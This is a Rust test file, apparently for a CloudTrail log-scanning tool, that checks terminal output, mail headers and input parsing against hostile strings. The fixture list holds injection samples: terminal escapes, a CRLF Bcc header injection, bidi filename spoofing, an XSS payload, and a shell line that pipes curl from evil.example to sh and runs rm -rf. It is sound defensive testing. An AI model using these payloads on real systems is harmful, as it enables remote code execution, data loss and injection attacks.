//! Logs whose every string was chosen by somebody who means harm.

use serde_json::{Value, json};

use crate::util::{run_in, trailbell, with_input};

const EVIL: &[&str] = &[
    "\u{1b}[2J\u{1b}]0;owned\u{7}",
    "a\r\nBcc: victim@example.org\r\n\r\nbody",
    "\u{202e}gnp.exe\u{2066}",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "$(curl evil.example|sh)`id`;rm -rf ~ && '\"\\",
    "\u{0}\u{9b}31m\u{85}\u{2028}",
    "https://evil.example.org/login",
    "{account} {target}",
];

/// Records of several kinds with one evil string in every place an outsider could reach.
fn records(evil: &str) -> Vec<Value> {
    let base = |source: &str, name: &str| {
        json!({
            "eventVersion": "1.11", "eventTime": "2026-11-09T00:00:00Z", "eventSource": source, "eventName": name,
            "awsRegion": evil, "sourceIPAddress": evil, "userAgent": evil, "eventID": format!("{name}-{evil}"),
            "errorMessage": null, "recipientAccountId": evil, "eventType": "AwsApiCall", "readOnly": false,
            "userIdentity": {"type": "IAMUser", "userName": evil, "arn": evil, "accountId": evil, "accessKeyId": evil, "principalId": evil},
            "requestParameters": {"userName": evil, "policyArn": evil, "roleName": evil, "policyName": evil, "groupName": evil},
            "responseElements": {"accessKey": {"accessKeyId": evil, "userName": evil}},
        })
    };
    let mut failed = base("signin.amazonaws.com", "ConsoleLogin");
    failed["eventType"] = "AwsConsoleSignIn".into();
    failed["errorMessage"] = evil.into();
    failed["responseElements"] = json!({"ConsoleLogin": "Failure"});
    let mut denied = base("iam.amazonaws.com", "PutRolePolicy");
    denied["errorCode"] = "AccessDenied".into();
    denied["errorMessage"] = evil.into();
    let mut role = base("iam.amazonaws.com", "AttachUserPolicy");
    role["userIdentity"] = json!({"type": "AssumedRole", "arn": format!("arn:aws:sts::1:assumed-role/{evil}/{evil}"), "principalId": evil,
        "sessionContext": {"sessionIssuer": {"userName": evil, "arn": evil}}});
    let mut root = base("s3.amazonaws.com", evil);
    root["userIdentity"] = json!({"type": "Root", "accountId": evil});
    vec![
        failed,
        denied,
        role,
        root,
        base("iam.amazonaws.com", "CreateAccessKey"),
        base("cloudtrail.amazonaws.com", "StopLogging"),
    ]
}

/// Nothing in it can move a terminal.
fn harmless(text: &str) {
    let acts = |c: char| {
        (c.is_control() && c != '\n')
            || matches!(u32::from(c), 0x200b..=0x200f | 0x2028..=0x202e | 0x2066..=0x2069)
    };
    if let Some(at) = text.find(acts) {
        panic!(
            "{:?} in {:?}",
            &text[at..].chars().next(),
            &text[..at].chars().rev().take(60).collect::<String>()
        );
    }
}

#[test]
fn no_output_of_any_command_acts_on_a_terminal() {
    for evil in EVIL {
        let log = json!({"Records": records(evil)}).to_string();
        for arguments in [
            &["scan", "-", "-v"][..],
            &["scan", "-", "-v", "--lang", "ja"],
            &["scan", "-", "--output", "json"],
            &["match", "--filter", "", "-"],
            &["match", "--filter", "", "--lines", "--output", "json", "-"],
        ] {
            let run = with_input(arguments, log.as_bytes());
            assert!(matches!(run.status, 0..=2), "{arguments:?}: {}", run.stderr);
            harmless(&run.stdout);
            harmless(&run.stderr);
        }
        let id = format!("StopLogging-{evil}");
        if !evil.contains('\0') {
            let run = with_input(&["explain", &id, "-", "-v"], log.as_bytes());
            assert_eq!(run.status, 0, "{}", run.stderr);
            harmless(&run.stdout);
        }
    }
}

#[test]
fn no_mail_gets_a_header_or_a_file_name_of_theirs() {
    for evil in EVIL {
        let folder = tempfile::tempdir().unwrap();
        let log = json!({"Records": records(evil)}).to_string();
        let run = run_in(folder.path(), &["scan", "-", "--mail-dir", "mails", "-q"], log.as_bytes());
        assert_eq!(run.status, 0, "{}", run.stderr);
        let mut count = 0;
        for entry in std::fs::read_dir(folder.path().join("mails")).unwrap() {
            let path = entry.unwrap().path();
            let name = path.file_name().unwrap().to_str().unwrap();
            assert!(name.bytes().all(|b| b.is_ascii_alphanumeric() || b"-.".contains(&b)), "{name}");
            let mail = std::fs::read_to_string(&path).unwrap();
            let (headers, _) = mail.split_once("\r\n\r\n").unwrap();
            assert!(!headers.contains("\r\nBcc"), "{headers}");
            assert!(headers.is_ascii());
            count += 1;
        }
        assert!(count >= 5, "{count} mails");
    }
}

#[test]
fn odd_bytes_are_read_or_named_and_never_a_panic() {
    let deep = format!("{}1{}", "[".repeat(100_000), "]".repeat(100_000));
    let long = format!(
        "{{\"eventName\":\"CreateUser\",\"eventSource\":\"iam.amazonaws.com\",\"userAgent\":\"{}\"}}",
        "x".repeat(1 << 20)
    );
    let inputs: &[&[u8]] = &[
        b"",
        b"\xff\xfe{\x00",
        b"{\"Records\":[{\"eventName\":\"CreateUser\",\"eventSource\":\"iam.amazonaws.com\",\"userAgent\":\"\xff\"}]}",
        b"{\"Records\":[{\"eventName\":\"CreateUser\",\"eventName\":\"DeleteUser\",\"eventSource\":\"iam.amazonaws.com\"}]}",
        b"{\"Records\":[{\"eventName\":\"CreateUser\",\"eventSource\":\"iam.amazonaws.com\",\"eventVersion\":1e999999}]}",
        b"{\"Records\":[{\"eventName\":\"Create\\u0055ser\",\"eventSource\":\"iam.amazonaws.com\",\"x\":\"\\ud800\\u0000\"}]}",
        b"\x1f\x8b\x08\x00",
        deep.as_bytes(),
        long.as_bytes(),
    ];
    for input in inputs {
        for arguments in [
            &["scan", "-", "-v"][..],
            &["scan", "-", "--output", "json"],
            &["match", "--filter", "{ $.a = * }", "-"],
        ] {
            let run = with_input(arguments, input);
            assert!(
                matches!(run.status, 0..=2),
                "{:?}: {} {}",
                &input[..input.len().min(60)],
                run.status,
                run.stderr
            );
            assert!(!run.stderr.contains("panicked"), "{}", run.stderr);
            harmless(&run.stdout);
            harmless(&run.stderr);
        }
    }
    let escaped = with_input(&["scan", "-", "--output", "json"], inputs[5]);
    let (notices, _) = escaped.scan();
    assert_eq!(notices[0]["event_name"], "CreateUser", "an escape in a name hides nothing");
    let twice = with_input(&["scan", "-", "--output", "json"], inputs[3]);
    assert_eq!(twice.scan().0[0]["event_name"], "DeleteUser", "the last of two equal keys counts");
    let _ = trailbell(&["scan", "/dev/null"]);
}
